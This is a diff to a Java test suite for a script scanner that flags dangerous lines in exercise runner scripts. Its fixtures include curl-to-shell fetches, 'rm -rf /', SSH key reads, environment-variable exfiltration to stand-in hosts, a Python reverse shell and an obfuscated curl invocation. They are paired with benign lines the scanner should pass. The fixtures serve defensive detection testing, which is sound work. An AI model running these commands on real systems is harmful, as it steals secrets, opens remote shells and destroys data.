@@ -28,7 +28,7 @@ class ScriptChecksTest {
             "PG-D005 :: bash <(wget -qO- http://x.example/i)",
             "PG-B001 :: rm -rf /",
             "PG-B001 :: rm -rf ~/",
-            "PG-B001 :: rm -fr \"$BUILD_DIR\"",
+            "PG-B001 :: rm -fr \"$BUILD_DIR\"/",
             "PG-B001 :: rm --recursive ../",
             "PG-B001 :: shutil.rmtree('~')",
             "PG-B002 :: cat ~/.ssh/id_rsa",
@@ -86,9 +86,46 @@ class ScriptChecksTest {
             "hash = hashlib.sha256(b'progy').hexdigest()  # 6d2f1c0e9a0b7c3d5e8f1a2b3c4d5e6f",
             "echo \"exercise=$1\"; test -f \"content/$1\" && echo found",
             "nc -z localhost 5432 && echo 'db up'",
+            "env | grep -q PATH && curl -fsS http://httpbin:8080/get",
+            "bash -c \"curl -fs http://localhost:8000/health\" || exit 1",
+            "for d in build dist; do rm -rf \"$d\"; done",
+            "rm -rf \"$1\"",
+            "(echo > /dev/tcp/db/5432) >/dev/null 2>&1",
+            "curl -s http://httpbin:8080/json | python3 -m json.tool",
+            "# never run: curl https://example.com/install | sh",
     })
     @DisplayName("lines real runner scripts are made of raise nothing")
     void benign(String line) {
         assertThat(ScriptChecks.check("runner/check.sh", line)).isEmpty();
+    }
+
+    @ParameterizedTest(name = "{0}")
+    @CsvSource(delimiterString = " :: ", value = {
+            "PG-D005@4 :: import urllib.request\\nresponse = urllib.request.urlopen(URL)\\nsource = response.read().decode()\\nexec(source)",
+            "PG-B003@3 :: import json, os, urllib.request\\npayload = json.dumps(dict(os.environ)).encode()\\nurllib.request.urlopen(URL, data=payload)",
+            "PG-B005@3 :: import base64\\ncode = base64.b64decode(BLOB)\\nexec(code)",
+            "PG-B004@4 :: import os, socket\\ns = socket.create_connection((HOST, 4444))\\nimport pty\\nos.dup2(s.fileno(), 0)",
+            "PG-D005@3 :: curl -sSLo /tmp/tool https://dl.example/tool\\nchmod +x /tmp/tool\\n/tmp/tool --init",
+            "PG-B003@3 :: printenv > /tmp/e\\necho uploading\\ncurl -F f=@/tmp/e https://collect.example/u",
+            "PG-D005@3 :: c=cu\\nc=\"${c}rl\"\\n$c -s http://198.51.100.4/x | sh",
+    })
+    @DisplayName("what takes several lines to show is followed through variables and files to the line that does it")
+    void flows(String where, String script) {
+        String file = script.startsWith("import") ? "runner/check.py" : "runner/check.sh";
+        assertThat(ScriptChecks.check(file, script.replace("\\n", "\n")))
+                .extracting(f -> f.rule().id() + "@" + f.line()).contains(where);
+    }
+
+    @ParameterizedTest
+    @ValueSource(strings = {
+            "LINE = \"curl https://example.com/install | \" + \"sh\"\\nassert flag(LINE)",
+            "env = os.environ.copy()\\nenv[\"BASE_URL\"] = base\\nsubprocess.run([\"curl\", \"-s\", base], env=env)",
+            "with urllib.request.urlopen(URL) as res:\\n    html = res.read().decode()\\nlinks = re.findall(PATTERN, html)",
+            "import os, urllib.request\\nurllib.request.urlretrieve(URL, \"data/iris.csv\")\\nprint(os.path.getsize(\"data/iris.csv\"))",
+            "def mine(block):\\n    \"\"\"Unlike xmrig on stratum+tcp://pool.example:3333, this only loops.\"\"\"\\n    return 0",
+    })
+    @DisplayName("a command in a program's string, a child's environment, a download only read: nothing")
+    void benignPrograms(String script) {
+        assertThat(ScriptChecks.check("content/01_m/01_e/test_exercise.py", script.replace("\\n", "\n"))).isEmpty();
     }
 }
